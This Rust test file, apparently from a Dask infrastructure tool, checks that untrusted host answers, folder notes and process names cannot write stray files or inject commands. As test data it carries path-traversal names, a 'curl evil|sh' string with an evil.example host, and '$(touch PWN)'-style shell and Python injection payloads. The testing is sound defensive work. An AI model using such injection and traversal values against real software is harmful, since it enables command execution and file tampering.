//! Answers of hosts, files in a stack's folder and names of processes are untrusted: they choose no file of this
//! machine, no program that runs here and no command that people paste.

use std::collections::BTreeMap;
use std::fs;
use std::net::TcpListener;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use serde_json::{Value, json};

use crate::hosts::agent::{Agent, HOSTS, Setting};
use crate::sandbox_server::{CommandOutput, User, on_path, wait_until};

/// Stands for a host: answers as an agent does, with what it was given.
const HOST: &str = r#"#!/usr/bin/env python3
import json, os, sys
folder = os.path.dirname(os.path.abspath(__file__))
answers = json.load(open(os.path.join(folder, "answers")))
for _ in range(2):
    sys.stdin.read(int(sys.stdin.readline()))
nonce = sys.argv[-1].split()[-1]
if "endless" in answers:
    while True:
        sys.stdout.write("x" * (1 << 20))
print(json.dumps(dict(answers["hello"], nonce=nonce)), flush=True)
for line in sys.stdin:
    request = json.loads(line)
    path = request["path"].split("?")[0]
    known = answers["answers"].get(path)
    parts = path.strip("/").split("/")
    if known is None and parts[-1].endswith("s") and len(parts) < 6:
        version = "/".join(parts[1:3]) if parts[0] == "apis" else parts[1]
        known = {"kind": "ThingList", "apiVersion": version, "metadata": {"resourceVersion": "1"}, "items": []}
    status = 200 if known else 404
    if known is None:
        known = {"kind": "Status", "apiVersion": "v1", "status": "Failure", "reason": "NotFound", "message": "not found", "code": 404}
    print(json.dumps({"id": request["id"], "status": status, "body": known}), flush=True)
"#;

struct Host {
    folder: tempfile::TempDir,
}

impl Host {
    fn new(hello: &Value, answers: &BTreeMap<String, Value>) -> Self {
        Self::of(&json!({ "hello": hello, "answers": answers }))
    }

    fn of(answers: &Value) -> Self {
        let folder = tempfile::tempdir().unwrap();
        fs::write(folder.path().join("answers"), answers.to_string()).unwrap();
        let host = Self { folder };
        fs::write(host.program(), HOST).unwrap();
        fs::set_permissions(host.program(), fs::Permissions::from_mode(0o755)).unwrap();
        host
    }

    fn program(&self) -> PathBuf {
        self.folder.path().join("host")
    }

    /// A command whose `[local]` or `[ssh]` leads to it.
    fn run(&self, user: &User, words: &[&str]) -> CommandOutput {
        let mut command = user.command(words);
        command.env("DASK_INFRA_PYTHON", self.program()).env("DASK_INFRA_SSH", self.program());
        CommandOutput::of(&command.output().unwrap())
    }
}

fn hello() -> Value {
    json!({ "host": "n1", "python": "3.11.2", "folder": "/state", "machine": "m" })
}

fn applied(kind: &str, name: &str, spec: &Value, status: &Value) -> Value {
    json!({
        "apiVersion": "hosts.dask-infra.dev/v1", "kind": kind,
        "metadata": {
            "name": name, "uid": name, "resourceVersion": "1",
            "managedFields": [{ "manager": "dask-infra/s", "operation": "Apply" }],
        },
        "spec": spec, "status": status,
    })
}

fn files_below(folder: &Path) -> Vec<String> {
    let mut found = Vec::new();
    let mut open = vec![folder.to_owned()];
    while let Some(inner) = open.pop() {
        for entry in fs::read_dir(inner).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                open.push(path);
            } else {
                found.push(path.strip_prefix(folder).unwrap().display().to_string());
            }
        }
    }
    found.sort();
    found
}

#[test]
fn a_host_chooses_no_file_that_import_writes() {
    if !on_path("python3", "--version") {
        return;
    }
    let files = json!({
        "requirements.txt": "numpy\n", "../../../up": "evil", ".bashrc": "evil", "/tmp/of-a-host": "evil",
    });
    let environment =
        |name: &str| applied("Environment", name, &json!({ "digest": "d", "files": files }), &json!({}));
    let with = |names: &[&str]| {
        let items: Vec<Value> = names.iter().map(|name| environment(name)).collect();
        let list = json!({
            "kind": "EnvironmentList", "apiVersion": "hosts.dask-infra.dev/v1", "metadata": { "resourceVersion": "1" },
            "items": items,
        });
        Host::new(&hello(), &[(format!("{HOSTS}/environments"), list)].into())
    };
    let user = User::empty();
    for name in ["s-../../../../side", "s-.git/hooks", "s-main\u{1b}[2J", ""] {
        let said = with(&["s-main", name]).run(&user, &["import", "--local"]).expect(1);
        said.says("`metadata.name` is not a");
        assert_eq!(files_below(user.path()), Vec::<String>::new());
    }
    let host = with(&["s-main", "s-..", "s-.git"]);
    let said = host.run(&user, &["--stack", "deep/a/b", "import", "--local"]).expect(0);
    assert_eq!(
        files_below(user.path()),
        ["deep/a/b/.dask-infra/stack.schema.json", "deep/a/b/main/requirements.txt", "deep/a/b/stack.toml"],
        "{}",
        said.err
    );
    said.says("Wrote deep/a/b/main/requirements.txt").says("its name is not a key of a section");
    // A link in the folder leads nowhere either.
    let (other, outside) = (User::empty(), tempfile::tempdir().unwrap());
    symlink(outside.path(), other.path().join("main")).unwrap();
    host.run(&other, &["import", "--local"]).expect(1).says("leads out of the stack's folder");
    assert_eq!(files_below(outside.path()), Vec::<String>::new());
    assert_eq!(files_below(other.path()), Vec::<String>::new(), "nothing is left half way");
}

const CLUSTER: &str = "[stack]\nname = \"s\"\n\n[gke]\nproject = \"demo\"\nlocation = \"us-central1-c\"\n\n[cluster]\nname = \"c\"\n\n\
                       [node_pool.p]\nmachine_type = \"e2-standard-8\"\n\n[dask_operator]\nversion = \"2026.3.0\"\n\n[dask_cluster.d]\nimage = \"i:1\"\nworker = { replicas = 1 }\n";

#[test]
fn a_note_in_the_folder_of_a_stack_is_no_connection() {
    let user = User::empty_at("http://127.0.0.1:1");
    user.write(CLUSTER);
    let held = TcpListener::bind("127.0.0.1:0").unwrap();
    let folder = user.path().join(".dask-infra/connect");
    fs::create_dir_all(&folder).unwrap();
    let note = json!({
        "connected": {
            "address": "dask_cluster.d", "target": "demo / us-central1-c / c", "simulated": false, "pid": 1,
            "client": "tcp://203.0.113.66:8786", "python": "Client(\"evil\")", "dashboard": "http://evil.example/status",
            "background": true, "already": false, "misfit": "`curl evil|sh`",
        },
        "ports": [held.local_addr().unwrap().port()], "process": null,
    });
    fs::write(folder.join("dask_cluster.d.json"), note.to_string()).unwrap();
    let precious = user.path().join("precious");
    fs::write(&precious, "precious").unwrap();
    symlink(&precious, folder.join("dask_cluster.d.log")).unwrap();
    for words in [&["connect"][..], &["connect", "--json"], &["connect", "--background"]] {
        let said = user.run(words);
        assert_ne!(said.code, 0, "{}", said.out);
        for evil in ["203.0.113.66", "evil"] {
            assert!(
                !format!("{}{}", said.out, said.err).contains(evil),
                "{words:?}: {}{}",
                said.out,
                said.err
            );
        }
    }
    assert_eq!(fs::read_to_string(&precious).unwrap(), "precious");
}

const ON_SSH: &str = "[stack]\nname = \"s\"\n\n[ssh]\nhosts = [{ name = \"n1\", user = \"me\", identity = \"~/.ssh/k\" }]\n\n\
                      [environment.main]\npath = \"/opt/dask\"\n\n[dask_cluster.d]\nworker = { replicas = 1 }\n";

/// Answers of a host with a scheduler.
fn running(scheduler: &Value, environment: &Value) -> BTreeMap<String, Value> {
    let spec = json!({ "environment": { "name": "s-main" }, "scheduler": { "on": "n1" } });
    [
        (format!("{HOSTS}/clusters/d"), applied("Cluster", "d", &spec, &json!({ "scheduler": scheduler }))),
        (format!("{HOSTS}/environments/s-main"), applied("Environment", "s-main", &json!({}), environment)),
    ]
    .into()
}

#[test]
fn what_a_host_says_becomes_no_command() {
    if !on_path("python3", "--version") {
        return;
    }
    let user = User::empty();
    user.write(ON_SSH);
    let good = json!({
        "answers": true, "address": "tcp://n1:8786", "dashboard": "http://n1:8787/status", "host": "n1", "port": 8786,
        "dashboardPort": 8787, "versions": { "python": "3.11.2", "dask": "2026.8.0", "distributed": "2026.8.0" },
    });
    let with = |key: &str, value: Value| {
        let mut scheduler = good.clone();
        scheduler[key] = value;
        scheduler
    };
    let environment = json!({ "python": "/opt/dask/bin/python" });
    let connect = |scheduler: &Value, environment: &Value| {
        Host::new(&hello(), &running(scheduler, environment)).run(&user, &["connect"])
    };
    connect(&good, &environment)
        .expect(0)
        .says("client = Client(\"tcp://n1:8786\")")
        .says("ssh -N -L 8786:n1:8786 -L 8787:n1:8787 -l me -i ~/.ssh/k n1")
        .says("/opt/dask/bin/python");
    let evil = "`touch PWN`";
    for (scheduler, environment, code) in [
        (with("address", json!("tcp://x\"); __import__(\"os\").system(\"touch PWN\")#")), &environment, 1),
        (with("address", json!("tcp://$(touch PWN):8786")), &environment, 1),
        (with("host", json!("$(touch PWN)")), &environment, 0),
        (with("port", json!("8786 $(touch PWN)")), &environment, 1),
        (with("dashboard", json!("http://x/$(touch PWN)/status")), &environment, 0),
        (with("versions", json!({ "dask": evil, "distributed": "1; touch PWN #" })), &environment, 1),
        (good.clone(), &json!({ "run": "podman run x; touch PWN" }), 0),
    ] {
        let said = connect(&scheduler, environment).expect(code);
        assert!(
            !format!("{}{}", said.out, said.err).contains("PWN"),
            "{scheduler}: {}{}",
            said.out,
            said.err
        );
    }
    // A path is one word.
    connect(&good, &json!({ "python": "/x; touch PWN" })).expect(0).says("'/x; touch PWN'");
    // Nor does it give advice of its own.
    for (remedy, advice) in
        [("run `touch PWN`", None), ("run `chmod go-w /a b`", Some("run `chmod go-w '/a b'`"))]
    {
        let host = Host::new(&json!({ "error": "no", "remedy": remedy }), &BTreeMap::new());
        let said = host.run(&user, &["connect"]).expect(1);
        assert!(!said.err.contains("PWN"), "{}", said.err);
        if let Some(advice) = advice {
            said.says(advice);
        }
    }
}

#[test]
fn a_host_that_never_ends_a_line_fills_no_memory() {
    if !on_path("python3", "--version") {
        return;
    }
    let user = User::empty();
    user.write(ON_SSH);
    Host::of(&json!({ "endless": true })).run(&user, &["connect"]).expect(1).says("larger than 64 MiB");
}

/// Ends with the test.
struct Process(Child);

impl Drop for Process {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn what_another_process_calls_itself_is_not_run() {
    if !on_path("python3", "--version") {
        return;
    }
    let (state, place) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let at = |name: &str| place.path().join(name);
    let ran = at("ran");
    fs::create_dir_all(at("env/bin")).unwrap();
    fs::create_dir_all(at("env/lib/python3.9/site-packages/distributed-2026.8.0.dist-info")).unwrap();
    for program in ["python3", "env/bin/python3"] {
        fs::write(at(program), format!("#!/bin/sh\ntouch '{}'\n", ran.display())).unwrap();
        fs::set_permissions(at(program), fs::Permissions::from_mode(0o755)).unwrap();
    }
    let called = |name: &str| {
        // Bash gives a process another name; a launcher of versions would take it away again.
        let script = "real=$(python3 -c 'import sys; print(sys.executable)'); exec -a \"$1\" \"$real\" -c 'import time; time.sleep(120)' distributed.cli.dask_worker";
        let mut command = Command::new("bash");
        command.args(["-c", script, "bash", name]).stdout(Stdio::null());
        Process(command.spawn().unwrap())
    };
    let processes = [called("./python3"), called(&at("env/bin/python3").display().to_string())];
    let shell = format!("cd '{}'", place.path().display());
    let mut agent = Agent::start_with(state.path(), &Setting { shell: &shell, ..Setting::default() });
    let mut found = Vec::new();
    wait_until("both are seen", || {
        let (_, list) = agent.get(&format!("{HOSTS}/strangers"));
        found = processes
            .iter()
            .filter_map(|process| {
                list["items"].as_array()?.iter().find(|one| one["pid"] == process.0.id()).cloned()
            })
            .collect::<Vec<_>>();
        found.len() == 2
    });
    assert!(!ran.exists(), "a program ran");
    assert_eq!(found[0]["versions"]["distributed"].as_str(), None);
    assert_eq!(found[1]["versions"], json!({ "distributed": "2026.8.0" }));
}
